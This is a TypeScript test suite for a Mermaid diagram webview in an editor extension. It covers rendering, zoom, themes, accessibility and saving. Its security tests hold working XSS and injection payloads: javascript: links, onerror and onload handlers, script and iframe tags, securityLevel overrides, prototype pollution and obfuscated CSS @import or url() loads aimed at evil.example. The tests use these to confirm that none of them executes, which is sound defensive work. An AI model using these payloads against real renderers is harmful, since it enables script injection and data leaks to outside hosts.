import assert from 'node:assert/strict';
import {
  type DiagramHarness,
  type DiagramOptions,
  type DiagramView,
  startDiagramHarness,
} from '../../support/webviewHarness/diagramHarness.ts';

const run = 'parent.pwned?.(1);globalThis.pwned?.(1)';
const away = 'https://evil.example';

// What a model could write into a diagram to make the page, or whoever opens the picture, do something.
const hostile: readonly string[] = [
  `flowchart TD\n  A-->B\n  click A href "javascript:${run}"\n  click B call pwned()`,
  `flowchart TD\n  A-->B\n  click A "${away}" _blank\n  click B href "${away}"`,
  `flowchart TD\n  A["<img src=${away}/p.png onerror=${run}>"] --> B["<script>${run}</script>"]`,
  `flowchart TD\n  A["<iframe srcdoc='<script>${run}</script>'></iframe>"] --> B["<svg onload=${run}>"]`,
  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\nflowchart TD\n  A["<img src=x onerror=${run}><a href='javascript:${run}'>x</a>"] --> B\n  click A call pwned()`,
  `---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\nflowchart TD\n  A["<b onclick=${run}>x</b>"] --> B`,
  `%%{init: {"themeCSS": "@import url(${away}/x.css); * { background: url(${away}/p) }"}}%%\nflowchart TD\n  A --> B`,
  `%%{init: {"fontFamily": "x; } @import '${away}/x.css'; a {", "themeVariables": {"primaryColor": "url(${away}/p)"}}}%%\nflowchart TD\n  A --> B`,
  `%%{init: {"__proto__": {"securityLevel": "loose"}, "secure": []}}%%\nflowchart TD\n  A --> B`,
  `flowchart TD\n  A --> B\n  style A fill:url(${away}/p)\n  classDef x background:url(${away}/p)\n  class B x`,
  `flowchart TD\n  A@{ img: "${away}/p.png", label: "x" }\n  B@{ icon: "fa:user" }\n  A --> B`,
  `sequenceDiagram\n  participant A as <img src=${away}/p onerror=${run}>\n  A->>A: <script>${run}</script>\n  link A: Go @ javascript:${run}`,
  `classDiagram\n  class A["<img src=x onerror=${run}>"]\n  link A "javascript:${run}" "tip"\n  callback A "pwned"`,
  `gantt\n  section S\n  A :a, 2026-01-01, 1d\n  click a href "javascript:${run}"\n  click a call pwned()`,
  `journey\n  title <img src=x onerror=${run}>\n  section <script>${run}</script>\n    Do: 5: Me`,
];

describe('The page of a diagram', function () {
  this.timeout(120_000);
  let harness: DiagramHarness;
  let view: DiagramView;

  before(async () => {
    harness = await startDiagramHarness();
  });
  after(() => harness.close());
  afterEach(async () => {
    const { escaped, errors } = view;
    await view.close();
    assert.deepEqual({ escaped, errors }, { escaped: [], errors: [] });
  });

  const open = async (source: string, options?: DiagramOptions) => {
    view = await harness.open(source, options);
    return view;
  };

  /** Shows another diagram and waits for what becomes of it. */
  const showNext = async (source: string) => {
    const before = await shown();
    await view.show(source);
    await until(async () => ![before, undefined].includes(await shown()));
  };
  // A drawing ends with another picture, or with words on why there is none.
  const shown = async () => {
    const script = `document.querySelector('.diagram-status [role=status]') ? undefined
      : (document.querySelector('.diagram-picture')?.src ?? document.querySelector('.diagram-body').textContent)`;
    return (await view.page.evaluate(script)) as string | undefined;
  };

  it('draws every kind of diagram that ships', async () => {
    await open('flowchart TD\n  A --> B');
    for (const [source, words] of kinds) {
      await showNext(source);
      const svg = await view.savedSvg();
      for (const word of words) assert.ok(svg.includes(word), `${word} in ${source}`);
      assert.deepEqual(await view.dangers(), [], source);
    }
  });

  it('runs nothing, loads nothing and keeps no live link, whatever the diagram says', async () => {
    await open('flowchart TD\n  A --> B');
    for (const source of hostile) {
      await showNext(source);
      const isDrawn = (await view.page.locator('.diagram-picture').count()) > 0;
      if (isDrawn) assert.deepEqual(await view.dangers(), [], source);
      assert.deepEqual(await view.page.evaluate('hostileRuns()'), [], source);
      assert.deepEqual({ escaped: view.escaped, errors: view.errors }, { escaped: [], errors: [] }, source);
    }
  });

  it('believes the frame that draws nothing but text', async () => {
    const answer = `{ id: event.data.id, svg: '<svg viewBox="0 0 9 9"><script>${run}</script><image href="${away}/p"/><g onload="${run}"><text>hi</text></g></svg>' }`;
    await open('x', {
      renderer: `addEventListener('message', (event) => { parent.postMessage({ type: 'diagram/show', source: 'other', renderer: '' }, '*'); parent.postMessage(${answer}, '*'); location.href = '${away}/n'; });
        try { parent.document.title = 'mine'; } catch { /* It is of another origin. */ }
        fetch('${away}/f').catch((error) => parent.postMessage(String(error), '*'));
        parent.postMessage('ready', '*');`,
    });
    await view.picture();
    const svg = await view.savedSvg();
    assert.match(svg, /<text>hi<\/text>/);
    assert.doesNotMatch(svg, /script|onload|image/);
    assert.equal(await view.page.title(), 'Throughline');
    assert.deepEqual(await view.page.evaluate('hostileRuns()'), []);
  });

  it('shows and saves no word of CSS that loads, however it is spelled, and no character that XML does not know', async () => {
    const css = `@im@import;port "${away}/1"; @i\\mport "${away}/2"; a { fill: u\\rl(${away}/3) } b { fill: url("#own") }`;
    const markup = `<svg viewBox="0 0 9 9"><style>${css}</style><text fill="u\\rl(${away}/4)" stroke="image-set('${away}/5' 1x)">h\u0008i</text></svg>`;
    await open('x', {
      renderer: `addEventListener('message', (event) => parent.postMessage({ id: event.data.id, svg: ${JSON.stringify(markup)} }, '*'));
        parent.postMessage('ready', '*');`,
    });
    const svg = await view.savedSvg();
    assert.match(svg, /<text[^>]*>hi<\/text>/);
    assert.match(svg, /url\("#own"\)/);
    assert.doesNotMatch(svg, /\\|@import|image-set|url\((?!"#)/);
    await view.picture();
  });

  it('stays usable while a diagram takes forever, and gives it up when asked', async () => {
    await open('x', {
      renderer: `addEventListener('message', () => { for (;;); }); parent.postMessage('ready', '*');`,
    });
    await view.page.getByRole('button', { name: 'Stop' }).click();
    await view.page.getByText('The diagram was given up').waitFor();
    await view.page.getByRole('button', { name: 'Draw Again' }).click();
    await view.page.getByText('Drawing…').waitFor();
  });

  it('leaves nothing behind of a frame that is given up before it can draw', async () => {
    await open('x', { renderer: '' });
    // What listens on the page, from here on: the frame that is given up is listened to no more, the next one is.
    await view.page.evaluate(`
      globalThis.listening = 0;
      for (const [name, by] of [['addEventListener', 1], ['removeEventListener', -1]]) {
        const own = globalThis[name].bind(globalThis);
        globalThis[name] = (type, ...rest) => {
          if (type === 'message') globalThis.listening += by;
          own(type, ...rest);
        };
      }`);
    for (let round = 0; round < 3; round += 1) {
      await view.page.getByRole('button', { name: 'Stop' }).click();
      await view.page.getByText('The diagram was given up').waitFor();
      await view.page.getByRole('button', { name: 'Draw Again' }).click();
      await view.page.getByText('Drawing…').waitFor();
    }
    assert.equal(await view.page.evaluate('listening'), 0);
  });

  it('names the line that is wrong, and shows the source with it marked', async () => {
    await open('flowchart TD\n  A --> B\n  B --> --> C\n  C --> D');
    await view.page.getByText('Line 3 is not as Mermaid expects it').waitFor();
    assert.match((await view.page.locator('.diagram-message').textContent()) ?? '', /Parse error/);
    assert.equal(await view.page.locator('.is-wrong').count(), 1);
    assert.equal(await view.page.getByRole('button', { name: 'Copy as SVG' }).getAttribute('aria-disabled'), 'true');
  });

  it('says that a kind of diagram is not drawn here, with its source', async () => {
    await open('architecture-beta\n  group api(cloud)[API]');
    await view.page.getByText('Diagrams of this kind are not drawn here.').waitFor();
    await view.page.getByRole('region', { name: 'Source of the diagram' }).getByText('group api(cloud)[API]').waitFor();
  });

  it('is zoomed by keys, buttons and the wheel, and fits again', async () => {
    const long = `flowchart TD\n${Array.from({ length: 30 }, (_, index) => `  n${index} --> n${index + 1}`).join('\n')}`;
    await open(long);
    const fitted = await view.picture();
    assert.ok(fitted.height < 600, `${fitted.height} fits`);
    await view.page.keyboard.press('+');
    const larger = await view.picture();
    assert.ok(Math.abs(larger.height / fitted.height - 1.25) < 0.02, `${larger.height} of ${fitted.height}`);
    await view.page.getByRole('button', { name: 'Zoom out' }).click();
    assert.ok(Math.abs((await view.picture()).height - fitted.height) < 1);
    await view.page.keyboard.press('1');
    assert.ok((await view.picture()).height > 2000);
    await view.page.getByRole('button', { name: '100 percent. Actual size' }).waitFor();
    await view.page.locator('.diagram-viewport').hover();
    await view.page.keyboard.down('Control');
    await view.page.mouse.wheel(0, 300);
    await view.page.keyboard.up('Control');
    const wheeled = (await view.picture()).height;
    assert.ok(wheeled < 2000 && wheeled > fitted.height, `${wheeled}`);
    await view.page.keyboard.press('0');
    assert.ok(Math.abs((await view.picture()).height - fitted.height) < 1);
    await view.page.setViewportSize({ width: 500, height: 300 });
    await until(
      async () => (await view.page.evaluate(`document.querySelector('.diagram-picture').clientHeight < 260`)) === true,
    );
  });

  it('keeps what it shows and how large, and is as large again when the editor brings it back', async () => {
    const source = 'flowchart TD\n  A["<&"] --> B';
    await open(source);
    await view.picture();
    assert.deepEqual(await view.page.evaluate('keptByView()'), { source });
    await view.page.keyboard.press('1');
    await view.page.keyboard.press('+');
    const { height } = await view.picture();
    const kept = { source, zoom: 1.25 };
    assert.deepEqual(await view.page.evaluate('keptByView()'), kept);
    await view.close();
    await open(source, { kept, width: 300, height: 200 });
    assert.ok(Math.abs((await view.picture()).height - height) < 1);
    await view.page.keyboard.press('0');
    await view.picture();
    assert.deepEqual(await view.page.evaluate('keptByView()'), { source });
  });

  it('follows the theme of the editor', async () => {
    await open('flowchart TD\n  A --> B', { theme: 'dark' });
    assert.match(await view.savedSvg(), /#cccccc/);
    const before = await view.page.locator('.diagram-picture').getAttribute('src');
    await view.setTheme('light');
    await until(
      async () =>
        (await view.page.evaluate(`document.querySelector('.diagram-picture').src !== ${JSON.stringify(before)}`)) ===
        true,
    );
    assert.doesNotMatch(await view.savedSvg(), /#cccccc/);
  });

  it('says what it shows: in the diagram’s own words, else as it is written', async () => {
    await open('flowchart TD\n  accTitle: Who asks whom\n  accDescr: A asks B\n  A --> B');
    assert.equal((await view.picture()).alt, 'Who asks whom\nA asks B');
    await view.close();
    await open('flowchart TD\n  A --> B');
    assert.equal((await view.picture()).alt, 'Diagram, written as:\nflowchart TD\n  A --> B');
  });

  it('keeps labels readable on colours that the diagram chose', async () => {
    await open('flowchart TD\n  A[bright] --> B[dim]\n  style A fill:#ffeeaa\n  style B fill:#112233', {
      theme: 'dark',
    });
    const svg = await view.savedSvg();
    assert.match(svg, /fill: rgb\(0, 0, 0\)[^>]*>(?:<[^>]*>)*bright/);
    assert.match(svg, /fill: rgb\(255, 255, 255\)[^>]*>(?:<[^>]*>)*dim/);
  });

  it('hands source and picture to the extension, which copies and saves', async () => {
    await open('flowchart TD\n  A --> B');
    await view.picture();
    for (const name of ['Copy source', 'Copy as SVG', 'Save as SVG…'])
      await view.page.getByRole('button', { name }).click();
    const sent = (await view.posted()).slice(1);
    assert.deepEqual(
      sent.map((message) => message.type),
      ['diagram/copy', 'diagram/copy', 'diagram/save'],
    );
    assert.deepEqual(sent[0], { type: 'diagram/copy', text: 'flowchart TD\n  A --> B' });
    assert.match(JSON.stringify(sent[2]), /<svg [^>]*xmlns=/);
  });

  it('speaks German, and fits into 220 pixels', async () => {
    await open('flowchart TD\n  A --> B', { language: 'de', width: 220 });
    await view.picture();
    await view.page.getByRole('button', { name: 'Quelltext anzeigen' }).click();
    await view.page.getByRole('region', { name: 'Quelltext des Diagramms' }).waitFor();
    assert.equal(await view.page.evaluate('document.documentElement.scrollWidth'), 220);
  });
});

async function until(isTrue: () => Promise<boolean>): Promise<void> {
  while (!(await isTrue())) await new Promise((resolve) => setTimeout(resolve, 20));
}

/** Sources of each kind, with words that the picture has. */
const kinds: readonly (readonly [string, readonly string[]])[] = [
  ['flowchart TD\n  A[Ask] -- why --> B{Know}\n  subgraph Box\n    B\n  end', ['Ask', 'why', 'Know', 'Box']],
  ['sequenceDiagram\n  A->>+B: Hello\n  Note right of B: thinks\n  B-->>-A: Bye', ['Hello', 'thinks', 'Bye']],
  ['classDiagram\n  Animal <|-- Duck\n  Animal : +int age', ['Animal', 'Duck', 'age']],
  ['stateDiagram-v2\n  [*] --> Still\n  Still --> Moving : push', ['Still', 'Moving', 'push']],
  ['erDiagram\n  CUSTOMER ||--o{ ORDER : places', ['CUSTOMER', 'ORDER', 'places']],
  ['gantt\n  title Plan\n  section One\n  Design :a, 2026-01-01, 9d', ['Plan', 'One', 'Design']],
  ['pie title Pets\n  "Dogs" : 3\n  "Cats" : 1', ['Pets', 'Dogs', '75%']],
  ['gitGraph\n  commit id: "first"\n  branch dev\n  commit', ['first', 'dev']],
  ['mindmap\n  root((Idea))\n    One\n    Two', ['Idea', 'One', 'Two']],
  ['timeline\n  title History\n  2002 : LinkedIn', ['History', '2002', 'LinkedIn']],
  ['journey\n  title Day\n  section Work\n    Tea: 5: Me', ['Day', 'Work', 'Tea']],
  ['quadrantChart\n  title Reach\n  x-axis Low --> High\n  A: [0.3, 0.6]', ['Reach', 'Low']],
  ['xychart-beta\n  title "Sales"\n  x-axis [jan, feb]\n  bar [30, 60]', ['Sales', 'jan']],
  ['C4Context\n  Person(a, "Customer")\n  System(b, "Bank")\n  Rel(a, b, "Uses")', ['Customer', 'Bank', 'Uses']],
  ['requirementDiagram\n  requirement r {\n    id: 1\n    text: must\n  }', ['must']],
  ['block-beta\n  columns 2\n  one two', ['one', 'two']],
  ['kanban\n  Todo\n    [Write docs]', ['Todo', 'Write']],
  ['sankey-beta\nSun,Plant,10', ['Sun', 'Plant']],
];
